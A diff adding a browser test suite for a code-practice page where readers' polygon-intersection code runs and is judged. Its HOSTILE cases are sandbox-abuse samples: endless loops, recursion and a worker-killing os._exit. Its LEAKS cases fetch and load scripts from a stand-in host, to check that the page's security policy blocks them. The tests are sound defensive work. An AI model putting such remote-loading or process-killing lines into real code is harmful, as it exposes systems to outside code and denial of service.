@@ -1,0 +1,206 @@
+"""The lab: the reader's code runs in the page, its first miss is a figure, and whatever it does, the page goes on."""
+
+from __future__ import annotations
+
+import json
+from urllib.parse import parse_qs, quote, urlencode
+
+import pytest
+from axe import violations
+
+from browsers import until
+from figure import Figure
+
+PHONE = {"viewport": (360, 640), "has_touch": True, "is_mobile": True}
+DONE = """() => /^(Wrong|No miss|Stopped|Your code|The judge)/.test(document.querySelector("#status").textContent)"""
+PATIENCE_MS = 120_000
+
+RIGHT = """
+import gjkcore as gjk
+
+def intersects(a, b):
+    return gjk.intersects(gjk.Polygon(a), gjk.Polygon(b))
+"""
+
+
+def open_lab(page, start: str | None = None):
+    page.goto("lab.html")
+    page.locator(".cm-content").wait_for()
+    if start:
+        page.get_by_label("Start from").select_option(start)
+    return page
+
+
+def link_to(code: str, language: str = "python") -> str:
+    return f"lab.html#{urlencode({'language': language, 'code': code}, quote_via=quote)}"
+
+
+def run(page) -> str:
+    """Presses Run and returns what the judge says in the end."""
+    page.get_by_role("button", name="Run").click()
+    page.wait_for_function(DONE, timeout=PATIENCE_MS)
+    return page.locator("#status").inner_text()
+
+
+def said_of(page, code: str, language: str = "python") -> str:
+    """What the judge says of a code, in a page where the judge may run already."""
+    page.evaluate("hash => { location.hash = hash }", link_to(code, language).partition("#")[2])
+    until(
+        page, "text => document.querySelector('.cm-content').textContent.includes(text)", code.strip().splitlines()[0]
+    )
+    return run(page)
+
+
+def marked(page) -> list[str]:
+    """The texts at which the editor shows an error."""
+    return page.locator(".cm-lintRange-error").all_inner_texts()
+
+
+@pytest.mark.every_engine
+@pytest.mark.parametrize("start", ["textbook", "textbook-js"])
+def test_a_miss_is_a_figure(page, start):
+    """The textbook's code misses an overlap. The page shows the small pair with the robust method's answer, the exact
+    answer with its proof, and the text of an issue whose link opens the pair in the playground."""
+    open_lab(page, start)
+    assert run(page).startswith("Wrong: it says that the shapes do not intersect.")
+    figure = Figure(page).live()
+    assert figure.answer["result"]["state"] == "intersecting"
+    assert max(len(shape["vertices"]) for shape in figure.scene["shapes"]) <= 3
+    assert "Proof: " in page.locator("#miss").inner_text()
+    issue = page.locator("#miss pre").inner_text()
+    assert "do not intersect" in issue and "std::vector" in issue
+    page.get_by_role("link", name="Open this figure in the playground").click()
+    page.wait_for_url("**/play.html*")
+    assert json.loads(parse_qs(page.url.partition("?")[2])["scene"][0])["shapes"] == figure.scene["shapes"]
+
+
+def test_a_right_code_has_no_miss_and_can_be_stopped(page):
+    """While the judge finds no miss it says how many pairs it has asked of each group, and Stop ends the search."""
+    page.goto(link_to(RIGHT))
+    page.get_by_role("button", name="Run").click()
+    page.wait_for_function(
+        """() => /^\\d+ pairs asked, \\d+ a second, no miss so far$/.test(
+        document.querySelector("#status").textContent)""",
+        timeout=PATIENCE_MS,
+    )
+    until(page, "[...document.querySelectorAll('.groups b')].length === 12")
+    page.get_by_role("button", name="Stop").click()
+    assert page.locator("#status").inner_text().startswith("Stopped after ")
+    assert page.get_by_role("button", name="Run").is_visible()
+
+
+HOSTILE = {
+    "python": {
+        "def intersects(a, b):\n    while True: print(a)\n": ("no answer within 2 s (line 2)", "print(a)"),
+        "def intersects(a, b):\n    return intersects(a, b)\n": ("RecursionError", "return intersects"),
+        "def f(a):\n    return a[99]\n\ndef intersects(a, b):\n    return f(a)\n": ("IndexError", "return a[99]"),
+        "def intersects(a, b):\n    retrun 5\n": ("is not Python: invalid syntax (line 2)", "retrun 5"),
+        "def intersects(a, b):\n    a.extend([(0.0, 0.0)] * 10**6)\n    return True\n": ("changed the lists", ""),
+        "def intersects(a, b):\n    pass\n": ("intersects returned None", ""),
+        "import os\ndef intersects(a, b):\n    os._exit(3)\n": ("its worker ended", ""),
+        "def other(a, b):\n    pass\n": ("has no function intersects(a, b)", ""),
+    },
+    "javascript": {
+        "function intersects(a, b) {\n  for (;;) console.log(a);\n}\n": ("no answer within 2 s", ""),
+        "function intersects(a, b) {\n  for (;;) postMessage(a);\n}\n": ("no answer within 2 s", ""),
+        "const intersects = (a) => {\n  return a[99].x;\n};\n": ("TypeError", "return a[99].x;"),
+        "function intersects(a, b) {\n  retrun 5;\n}\n": ("SyntaxError", "retrun 5;"),
+        "function intersects(a, b) { a.push([1, 2]); return true; }\n": ("changed the lists", ""),
+        "function intersects(a, b) { return 0 / 0; }\n": ("intersects returned NaN", ""),
+        "function intersects(a, b) {}\n": ("returned undefined, which is neither", ""),
+        "function other() {}\n": ("there is no function intersects(a, b)", ""),
+    },
+}
+
+
+@pytest.mark.parametrize("language", HOSTILE)
+def test_hostile_codes(page, language):
+    """Endless loops, endless printing, recursion, exceptions, a million points and what is no answer are findings, and
+    the editor shows the line where there is one. The page goes on with the next code."""
+    open_lab(page)
+    for code, (words, at) in HOSTILE[language].items():
+        assert words in said_of(page, code, language), code
+        assert bool(marked(page)) == bool(at) and at in "".join(marked(page)), code
+    assert page.locator("iframe").count() == 0
+
+
+LEAKS = {
+    "python": "import js\ntry:\n    js.fetch('http://192.0.2.1/x')\n    js.eval('1')\nexcept BaseException:\n    pass\n"
+    "def intersects(a, b):\n    return a\n",
+    "javascript": "fetch('http://192.0.2.1/x').catch(() => {});\n"
+    "try { importScripts('http://192.0.2.1/x.js') } catch {}\nfunction intersects(a) { return a; }\n",
+}
+
+
+@pytest.mark.parametrize("language", LEAKS)
+def test_code_reaches_no_other_host(page, problems, language):
+    """What code asks of another host is refused by the page's policy: no request leaves the browser."""
+    problems.allow("violates the following Content Security Policy|policy violated|Failed to fetch")
+    problems.allow("Refused to connect|ERR_BLOCKED_BY_CSP")
+    sent: list[str] = []
+    page.context.on("requestfinished", lambda request: sent.append(request.url))
+    open_lab(page)
+    assert "which is neither" in said_of(page, LEAKS[language], language)
+    assert not [url for url in sent if "192.0.2.1" in url]
+
+
+def test_code_of_a_link_is_shown_and_does_not_run(page):
+    """The code of a link is in the editor, with words that say where it comes from, and nothing runs: no worker starts
+    before Run is pressed."""
+    page.goto(link_to("def intersects(a, b):\n    raise SystemExit\n"))
+    until(page, "document.querySelector('.cm-content').textContent.includes('SystemExit')")
+    assert "came with a link" in page.locator("#received").inner_text()
+    assert page.locator("#status").inner_text() == "Nothing has been run yet."
+    assert not [worker.url for worker in page.workers if worker.url.startswith("blob:")]
+    assert run(page).startswith("Wrong: intersects raised SystemExit")
+
+
+def test_code_is_in_the_address_only_when_asked(new_page):
+    """Typing leaves the address alone. Share writes the code into it, and the address opens the same code elsewhere."""
+    page = open_lab(new_page(permissions=["clipboard-read", "clipboard-write"]))
+    page.locator(".cm-content").click()
+    page.keyboard.press("ControlOrMeta+a")
+    page.keyboard.type("def intersects(a, b): return 1 < 2")
+    assert "#" not in page.url
+    page.get_by_role("button", name="Share").click()
+    until(page, "document.querySelector('#shared').textContent !== ''")
+    other = new_page()
+    other.goto(page.url)
+    until(other, "document.querySelector('.cm-content').textContent === 'def intersects(a, b): return 1 < 2'")
+
+
+def test_keys_alone(page):
+    """By keys alone a reader chooses a start, leaves the editor with Tab, and presses Run."""
+    open_lab(page)
+    page.get_by_label("Start from").focus()
+    page.keyboard.type("An empty")
+    page.keyboard.press("Tab")
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.classList.contains('cm-content')")
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.textContent.trim()") == "Run"
+    page.keyboard.press("Enter")
+    page.wait_for_function(DONE, timeout=PATIENCE_MS)
+    assert page.locator("#status").inner_text().startswith("Wrong: it says that the shapes do not intersect.")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("options", [{}, PHONE], ids=["desk", "phone"])
+def test_no_violations(new_page, scheme, options):
+    """The page with a miss is free of violations, in the light and in the dark, and nothing is wider than a phone."""
+    page = open_lab(new_page(color_scheme=scheme, **options), "textbook-js")
+    assert violations(page) == []
+    run(page)
+    Figure(page).live()
+    assert violations(page) == []
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+def test_no_other_page_loads_the_lab(dist):
+    """The editor, the judge and the whole Python are in files that only lab.html names, and no service worker
+    stores."""
+    names = [path.name for path in (dist / "assets").iterdir() if path.name.startswith(("lab", "judge"))]
+    assert len(names) >= 4
+    texts = {path: path.read_text(encoding="utf-8") for path in (*dist.glob("*.html"), dist / "offline.js")}
+    assert {path.name for path, text in texts.items() if any(name in text for name in names)} == {"lab.html"}
+    assert '"lab.html"' not in texts[dist / "offline.js"]
